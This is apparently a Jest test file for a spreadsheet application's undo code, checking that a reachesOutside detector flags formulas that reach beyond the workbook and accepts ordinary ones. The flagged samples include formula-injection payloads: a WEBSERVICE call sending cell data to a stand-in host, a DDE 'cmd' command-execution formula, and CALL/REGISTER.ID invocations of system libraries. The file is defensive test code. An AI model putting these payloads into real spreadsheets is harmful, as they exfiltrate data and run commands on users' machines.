import { reachesOutside } from "../../../src/core/undo/reaches-outside";

// Undo never writes a formula that reaches outside the workbook, whatever its record says (docs/HISTORY.md#issue-12-5).
describe("reachesOutside", () => {
  it.each([
    '=WEBSERVICE("http://x.example/?"&A1)',
    "=_xlfn.WEBSERVICE(A1)",
    '=filterxml(A1,"//a")',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","Click")',
    "=HYPERLINK(A1)",
    "=[Budget.xlsx]Sheet1!A1",
    "='C:\\x\\[B.xlsx]S 1'!A1",
    '=RTD("a",,"b")',
    '=CALL("user32","x")',
    '=REGISTER.ID("a","b")',
    '=IMAGE("http://x.example/a.png")',
    '=WEBSERVICE ("http://x.example")',
  ])("refuses %s", (formula) => expect(reachesOutside(formula)).toBe(true));

  it.each([
    '=IF(F5>=1,"Complete","On track")',
    "=SUM(Table1[Amount])",
    "='My Sheet'!A1*2",
    '=HYPERLINK("#Actions!A1","Go")',
    '="a|b"',
    "=VLOOKUP(A1,Lists!A:B,2,FALSE)",
    '=TEXT(A1,"dd/mm/yyyy")',
  ])("allows %s", (formula) => expect(reachesOutside(formula)).toBe(false));
});
